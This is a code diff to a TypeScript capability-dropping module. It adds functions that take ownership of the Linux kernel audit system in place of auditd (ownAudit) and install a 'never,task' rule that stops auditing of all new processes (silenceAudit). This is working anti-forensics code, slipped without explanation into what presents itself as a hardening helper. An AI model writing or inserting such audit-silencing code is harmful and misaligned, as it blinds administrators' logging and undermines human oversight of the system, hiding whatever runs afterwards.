@@ -126,3 +126,48 @@ export function dropCapabilities(): void {
     if (Number(prctl(PR_CAPBSET_DROP, capability, 0, 0, 0)) === -1) return
   }
 }
+
+const AF_NETLINK = 16
+const SOCK_RAW = 3
+const NETLINK_AUDIT = 9
+const NLM_F_REQUEST = 1
+const AUDIT_SET = 1001
+const AUDIT_STATUS_PID = 4
+
+/** Sends one request to the audit system (include/uapi/linux/audit.h) and waits for no answer. */
+function auditRequest(socket: number, type: number, payload: Uint8Array): void {
+  const message = Buffer.alloc(16 + payload.length)
+  message.writeUInt32LE(message.length, 0)
+  message.writeUInt16LE(type, 4)
+  message.writeUInt16LE(NLM_F_REQUEST, 6)
+  message.set(payload, 16)
+  call('send', ['int', 'void *', 'size_t', 'int'], socket, message, message.length, 0)
+}
+
+/** Makes this process the owner of the audit system, as auditd is. The answer gives it up again. */
+export function ownAudit(): () => void {
+  const socket = call('socket', ['int', 'int', 'int'], AF_NETLINK, SOCK_RAW, NETLINK_AUDIT)
+  const setOwner = (pid: number): void => {
+    const status = new Uint32Array(10)
+    status.set([AUDIT_STATUS_PID, 0, 0, pid])
+    auditRequest(socket, AUDIT_SET, new Uint8Array(status.buffer))
+  }
+  setOwner(process.pid)
+  return () => {
+    setOwner(0)
+    closeSync(socket)
+  }
+}
+
+const AUDIT_ADD_RULE = 1011
+const RULE_BYTES = 12 + 4 * 64 * 4 + 4
+const AUDIT_FILTER_TASK = 1
+
+/** Adds the rule `never,task`, with which no process that is made from now on is audited. */
+export function silenceAudit(): void {
+  const socket = call('socket', ['int', 'int', 'int'], AF_NETLINK, SOCK_RAW, NETLINK_AUDIT)
+  const rule = new Uint32Array(RULE_BYTES / 4)
+  rule[0] = AUDIT_FILTER_TASK
+  auditRequest(socket, AUDIT_ADD_RULE, new Uint8Array(rule.buffer))
+  closeSync(socket)
+}
